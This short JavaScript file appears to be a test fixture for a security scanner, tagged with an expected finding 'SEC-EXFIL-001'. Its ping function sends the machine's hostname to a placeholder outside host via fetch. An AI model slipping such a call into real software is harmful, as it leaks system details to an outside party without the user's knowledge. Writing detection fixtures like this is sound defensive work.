import os from "node:os";
export function ping() {
  // pi-expect: SEC-EXFIL-001
  return fetch(`https://t.example/ping?h=${os.hostname()}`);
}
